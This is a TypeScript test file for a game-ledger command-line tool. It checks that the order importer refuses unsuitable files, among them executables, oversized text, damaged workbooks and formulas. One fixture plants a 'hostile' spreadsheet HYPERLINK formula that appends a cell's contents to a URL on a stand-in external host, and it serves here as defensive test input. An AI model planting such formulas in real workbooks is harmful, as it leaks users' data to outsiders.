import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Book } from "../../src/workbook/book";
import { edit } from "../../src/workbook/xlsx/edit";
import { IMPORTED } from "../../src/ledger/read/hidden-turns";
import { readBook } from "../../src/workbook/xlsx/read";
import { build, ledger } from "../support/cli/program";

/*
 * Files that a game master receives beside orders: each is reported, nothing of it is written, and the orders are imported.
 */

let folder = "";
const at = (name: string): string => path.join(folder, name);
const run = (...args: string[]) => ledger(args, "", {}, folder);
const bytesOf = (name: string) => new Uint8Array(readFileSync(at(name)));

beforeAll(() => {
  build();
  folder = mkdtempSync(path.join(tmpdir(), "ledger-"));
  for (const [name, args] of [
    ["ledger.xlsx", ["gas", "--players", "Germany,Italy"]],
    ["other.xlsx", ["setup"]],
  ] as const)
    expect(run("new", ...args, "-o", name).code).toBe(0);
  copyFileSync(at("ledger.xlsx"), at("begun.xlsx"));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** The ledger as a later version would write it. */
function ofLaterVersion(): Uint8Array {
  const bytes = bytesOf("ledger.xlsx");
  const book = readBook(bytes);
  const { sheet, row, column } = book.names.find(({ name }) => name.endsWith("_Version"))!;
  return edit(bytes, [{ kind: "cells", sheet, cells: [{ row, column, value: 99 }] }]);
}

/** The column Played by, in its table. */
const playedBy = ({ tables }: Book) =>
  tables
    .flatMap((table) => table.headers.map((header, i) => ({ table, header, column: table.left + i })))
    .find(({ header }) => header === "Played by")!;

/** A hostile formula in a cell. */
function withFormula(): Uint8Array {
  const bytes = bytesOf("ledger.xlsx");
  const { table, column } = playedBy(readBook(bytes));
  const cell = { row: table.top + 2, column, formula: '=HYPERLINK("https://example.org/?"&A1,"look")' };
  return edit(bytes, [{ kind: "cells", sheet: table.sheet, cells: [cell] }]);
}

const HEAD = "Germany · turn 1 · gas";
const LIST = "Major powers in play (Campaign)";
const NOBODY = /It is unclear whose orders these are\. Begin with a line such as: Germany · /;

const SENT: readonly (readonly [name: string, content: string | (() => Uint8Array), says: RegExp])[] = [
  ["date.ics", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Turn 1\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", NOBODY],
  ["list.csv", "Power;Gas\nGermany;3\nItaly;2\n", NOBODY],
  ["card.vcf", "BEGIN:VCARD\nFN:Karl\nEND:VCARD\n", NOBODY],
  ["data.json", '{"player":"Germany","orders":[]}', NOBODY],
  ["mail.html", `<!DOCTYPE html><html><body><p>${HEAD}<br>${LIST}</p></body></html>`, /It is a web page: open it, copy its text/],
  ["mail.rtf", `{\\rtf1\\ansi ${HEAD}\\par}`, /It is a word processor's document: open it/],
  [
    "mail.eml",
    `From: karl@example.org\nContent-Type: text/html\n\n<p>${HEAD}<br>${LIST}</p>\n`,
    /This email has no plain text, only a web page: open it/,
  ],
  ["block.txt", `${Buffer.from(HEAD.repeat(400)).toString("base64").replace(/.{76}/g, "$&\n")}\n`, NOBODY],
  ["program.txt", "MZ\u0090\u0000\u0003\u0000", /Line 1 contains control characters, so these are not orders\./],
  ["bell.txt", `${HEAD}\n${LIST}\n  Germany: Played by = a\u0007b\n`, /Line 3 contains control characters/],
  ["long.txt", "a".repeat(10_000_000), /The text has 10,000,000 characters; orders can have at most 1,000,000\./],
  ["many.txt", "Germany\n".repeat(20_000), /The text has 20,001 lines; orders can have at most 10,000\./],
  ["empty.txt", "", NOBODY],
  [
    "formula.txt",
    `${HEAD}\n${LIST}\n  Germany: Played by = (formula "=1+1")\n`,
    /is ordered as a formula; orders can only contain values\./,
  ],
  ["formula.xlsx", withFormula, /is ordered as a formula; orders can only contain values\.|0 entries applied/],
  ["later.xlsx", ofLaterVersion, /version 99/],
  ["other.xlsx", () => bytesOf("other.xlsx"), /It is a ledger of .*; this one is of /],
  ["cut.xlsx", () => bytesOf("ledger.xlsx").slice(0, 5000), /damaged|end is missing/],
  ["old.xlsx", () => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0]), /old|encrypted|password/i],
  ["zip.xlsx", () => Uint8Array.from([0x50, 0x4b, 5, 6, ...Array<number>(18).fill(0)]), /zip\.xlsx/],
];

test("import-orders reports files that are not orders and imports the rest", () => {
  for (const [name, content] of SENT) writeFileSync(at(name), typeof content === "string" ? content : content());
  writeFileSync(at("good.txt"), `${HEAD}\n${LIST}\n  Germany: Played by = "=1+1"\n`);
  const names = SENT.map(([name]) => name);
  const tried = run("import-orders", "ledger.xlsx", ...names, "--player", "Germany");
  expect(tried.code).toBe(1);
  const lines = `${tried.out}\n${tried.err}`.split("\n");
  const untold = SENT.flatMap(([name, , text]) => {
    const from = lines.findIndex((line) => line.includes(name));
    const reported = lines.slice(Math.max(0, from), from + 4).join("\n");
    return from >= 0 && text.test(reported) ? [] : [[name, reported]];
  });
  expect(untold).toEqual([]);
  expect(lines.filter((line) => line.length > 400)).toEqual([]);
  expect(lines.filter((line) => /\bat \S+ \(|Error:|undefined|\[object/.test(line))).toEqual([]);
  // Orders that are all refused are recorded with their code; no entry changes.
  const entriesIn = (name: string) => readBook(bytesOf(name)).sheets.filter((sheet) => sheet.name !== IMPORTED);
  expect(entriesIn("ledger.xlsx")).toEqual(entriesIn("begun.xlsx"));

  // A text in orders that begins like a formula stays a text.
  const taken = run("import-orders", "ledger.xlsx", ...names.slice(0, 4), "good.txt", ...names.slice(4), "--player", "Germany");
  expect(taken.out).toContain("Germany, from good.txt");
  const book = readBook(bytesOf("ledger.xlsx"));
  const { table, column } = playedBy(book);
  const sheet = book.sheets.find(({ name }) => name === table.sheet)!;
  const [row, place] = [table.top + 1 - sheet.top, column - sheet.left];
  expect([sheet.values[row]![place], sheet.formulas[row]?.[place] ?? null]).toEqual(["=1+1", null]);
});
